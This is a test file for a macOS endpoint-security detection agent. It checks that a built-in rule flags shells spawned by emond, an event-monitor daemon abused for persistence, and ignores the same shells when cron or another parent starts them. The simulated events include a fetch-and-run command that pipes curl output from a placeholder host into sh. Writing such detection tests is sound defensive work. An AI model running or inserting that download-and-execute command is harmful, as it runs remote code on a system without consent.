import { afterEach, describe, expect, it } from 'vitest';
import { Detector } from '../../src/agent/detector.js';
import type { AlertDocument } from '../../src/alerts/alert-document.js';
import type { ExecEvent } from '../../src/events/exec-event.js';
import { loadBuiltinRules } from '../../src/rules/index.js';
import { EndpointSecuritySource } from '../../src/sources/endpoint-security.js';
import { EMOND, addon, deliver, emondShellExec, handedOver, resetSimulator, shProcess, sim } from '../native/sim-helpers.js';

const EMOND_RULE_ID = '3e3d15c6-1509-479a-b125-21718372157e';
const sources: EndpointSecuritySource[] = [];
afterEach(() => {
  for (const source of sources.splice(0)) source.stop();
  resetSimulator();
});

async function eventsFor(messages: Parameters<typeof deliver>[0]): Promise<ExecEvent[]> {
  const source = new EndpointSecuritySource({ addon: addon() });
  sources.push(source);
  const events: ExecEvent[] = [];
  source.start((batch) => events.push(...batch), (error) => {
    throw error;
  });
  deliver(messages);
  await handedOver(() => source.stats());
  return events;
}

const emondForksChild = {
  type: 'fork' as const,
  process: { pid: 300, pidversion: 7, ppid: 1, executable: EMOND },
  child: { pid: 301, pidversion: 11, ppid: 300, executable: EMOND, parent: { pid: 300, pidversion: 7 } },
};

describe('simulated Endpoint Security → EndpointSecuritySource → built-in emond rule', () => {
  const rule = loadBuiltinRules().find((r) => r.id === EMOND_RULE_ID);

  it('matches the exec of a shell by emond\'s forked child, and only that event', async () => {
    expect(rule).toBeDefined();
    const events = await eventsFor([emondForksChild, emondShellExec()]);
    expect(events.map((e) => [e.event.action, e.process.name, e.process.parent.name])).toEqual([
      ['fork', 'emond', 'emond'],
      ['exec', 'sh', 'emond'],
    ]);
    expect(events.map((e) => rule?.matches(e))).toEqual([false, true]);
  });

  it('does not match the same shell started by another parent', async () => {
    const cronFork = {
      ...emondForksChild,
      process: { pid: 300, pidversion: 7, ppid: 1, executable: '/usr/sbin/cron' },
      child: { ...emondForksChild.child, executable: '/usr/sbin/cron' },
    };
    const events = await eventsFor([
      cronFork,
      emondShellExec({ process: { pid: 301, pidversion: 11, executable: '/usr/sbin/cron' } }),
    ]);
    expect(events[1]?.process.parent.name).toBe('cron');
    expect(events.some((e) => rule?.matches(e))).toBe(false);
  });

  it('matches a masquerading /tmp/emond parent: the rule keys on the name', async () => {
    const events = await eventsFor([
      { ...emondForksChild, process: { ...emondForksChild.process, executable: '/tmp/emond' } },
      emondShellExec({ target: shProcess({ executable: '/usr/bin/curl' }), args: ['curl', '-s', 'http://example.invalid'] }),
    ]);
    expect(events[1]?.process.parent.executable).toBe('/tmp/emond');
    expect(rule?.matches(events[1] as ExecEvent)).toBe(true);
  });
});

describe('simulated Endpoint Security → EndpointSecuritySource → Detector → alert', () => {
  /** The agent's live path: seed the tree from the snapshot, then every batch through the detector. */
  async function alertsFor(messages: Parameters<typeof deliver>[0]): Promise<{ alerts: AlertDocument[]; detector: Detector }> {
    const source = new EndpointSecuritySource({ addon: addon() });
    sources.push(source);
    const detector = new Detector(loadBuiltinRules());
    detector.tree.seed(source.listProcesses());
    const alerts: AlertDocument[] = [];
    source.start(
      (batch) => {
        for (const event of batch) alerts.push(...detector.process(event));
      },
      (error) => {
        throw error;
      },
    );
    deliver(messages);
    await handedOver(() => source.stats());
    return { alerts, detector };
  }

  it('raises the emond alert for an emond fork+exec of a shell, emond having started before the agent', async () => {
    sim().setProcessTable([
      { pid: 1, ppid: 0, pidversion: 1, executable: '/sbin/launchd' },
      { pid: 300, ppid: 1, pidversion: 7, executable: EMOND },
    ]);
    const { alerts, detector } = await alertsFor([emondForksChild, emondShellExec()]);
    expect(detector.counters.events).toBe(2);
    expect(alerts).toHaveLength(1);
    const [alert] = alerts;
    expect(alert?.rule).toMatchObject({ id: EMOND_RULE_ID, name: 'Suspicious Emond Child Process', severity: 'medium', risk_score: 47 });
    expect(alert?.event).toMatchObject({ kind: 'alert', action: 'exec', module: 'simulator' });
    expect(alert?.process).toMatchObject({
      pid: 301,
      name: 'sh',
      executable: '/bin/sh',
      command_line: '/bin/sh -c curl -s http://example.invalid/x | sh',
      parent: { pid: 300, name: 'emond', executable: EMOND },
    });
    expect(JSON.stringify(alert?.threat)).toContain('T1546.014');
  });

  it('still alerts when sh execs curl in place: the parent is emond, not the pre-exec sh', async () => {
    const { alerts } = await alertsFor([
      emondForksChild,
      emondShellExec(),
      emondShellExec({
        process: { pid: 301, pidversion: 12, executable: '/bin/sh' },
        target: shProcess({ pidversion: 13, executable: '/usr/bin/curl' }),
        args: ['curl', '-s', 'http://example.invalid/x'],
      }),
    ]);
    expect(alerts.map((a) => [a.process.name, a.process.parent.name])).toEqual([
      ['sh', 'emond'],
      ['curl', 'emond'],
    ]);
  });

  it('resolves the parent through the process tree when messages carry no parent token (version 3)', async () => {
    const { alerts, detector } = await alertsFor([
      { ...emondForksChild, version: 3 },
      emondShellExec({ version: 3 }),
    ]);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]?.process.parent.name).toBe('emond');
    expect(alerts[0]?.es.parent_resolution).toBe('tree');
    expect(detector.tree.counters.resolvedFromTree).toBeGreaterThan(0);
  });

  it('raises nothing when the same shell comes from another parent', async () => {
    sim().setProcessTable([{ pid: 300, ppid: 1, pidversion: 7, executable: '/usr/sbin/cron' }]);
    const { alerts, detector } = await alertsFor([
      { ...emondForksChild, process: { ...emondForksChild.process, executable: '/usr/sbin/cron' }, child: { ...emondForksChild.child, executable: '/usr/sbin/cron' } },
      emondShellExec({ process: { pid: 301, pidversion: 11, executable: '/usr/sbin/cron' } }),
    ]);
    expect(detector.counters.events).toBe(2);
    expect(alerts).toEqual([]);
  });
});
